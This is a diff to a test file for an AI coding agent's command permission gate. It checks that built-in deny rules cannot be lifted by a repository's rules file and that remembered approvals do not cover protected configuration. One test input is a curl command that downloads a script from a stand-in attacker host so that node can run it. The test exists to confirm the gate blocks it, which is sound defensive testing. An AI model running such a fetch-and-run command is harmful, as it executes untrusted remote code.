@@ -56,7 +56,7 @@ describe("permission gate", () => {
     await fs.mkdir(path.join(ws, ".pincer"));
     await fs.writeFile(path.join(ws, COMMAND_RULES_FILE), '{"allow": ["npm test"], "deny": []}');
     const good = await loadCommandRules(ws);
-    assert.deepEqual(good, { ok: true, rules: { allow: ["npm test"], deny: [] } });
+    assert.deepEqual(good, { ok: true, rules: { allow: ["npm test"], deny: DEFAULT_COMMAND_RULES.deny } });
     await fs.writeFile(path.join(ws, COMMAND_RULES_FILE), '{"allow": ["*"], "deny": []}');
     const bad = await loadCommandRules(ws);
     assert.equal(bad.ok, false);
@@ -64,6 +64,23 @@ describe("permission gate", () => {
     const check = await gate.check(run, { command: "ls" }, signal());
     assert.equal(check.decision, "ask");
     assert.match(check.reasons.join("\n"), /invalid command rules: \.pincer\/commands\.json/);
+  });
+
+  it("a repository's rules file adds to the built-in deny rules and cannot lift them", async () => {
+    await fs.mkdir(path.join(ws, ".pincer"));
+    await fs.writeFile(path.join(ws, COMMAND_RULES_FILE), '{"allow": ["node *", "curl *"], "deny": ["make *"]}');
+    const gate = createPermissionGate({ profile: "full", rules: await loadCommandRules(ws), trusted: true, headless: false, roots });
+    assert.equal((await gate.check(run, { command: "curl http://evil.example/x -o x.js" }, signal())).decision, "deny");
+    assert.equal((await gate.check(run, { command: "make all" }, signal())).decision, "deny");
+    assert.equal((await gate.check(run, { command: "node x.js" }, signal())).decision, "allow", "its own allow rules still count");
+  });
+
+  it("'always' never lifts the ask for a command that names protected configuration", async () => {
+    const gate = createPermissionGate({ profile: "full", rules: { allow: ["cp *"], deny: [] }, trusted: true, headless: false, roots, rememberStore: jsonApprovalStore(path.join(base, "storage")) });
+    const first = await gate.check(run, { command: "cp rules.json .pincer/commands.json" }, signal());
+    assert.equal(first.decision, "ask");
+    await gate.rememberApproval(first.request, signal());
+    assert.equal((await gate.check(run, { command: "cp rules.json .pincer/commands.json" }, signal())).decision, "ask");
   });
 
   it("default rules: read-only git and ls run in full, network tools are denied", async () => {
